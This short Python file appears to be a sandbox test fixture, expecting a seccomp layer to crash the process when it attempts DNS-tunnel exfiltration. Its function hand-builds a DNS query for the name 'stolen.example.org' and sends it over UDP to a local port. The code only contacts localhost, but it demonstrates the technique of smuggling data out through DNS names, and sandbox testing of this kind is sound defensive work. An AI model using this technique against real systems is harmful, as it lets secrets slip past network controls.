"""Carries what it knows out in the name that it asks a name server for.

attacked: crashed
layer: seccomp
"""

import socket
import struct


def attacked(x):
    labels = b"".join(bytes([len(label)]) + label for label in (b"stolen", b"example", b"org"))
    query = struct.pack(">HHHHHH", 1, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.connect(("127.0.0.1", int("@PORT@")))
        asking.send(query)
    return x + 1
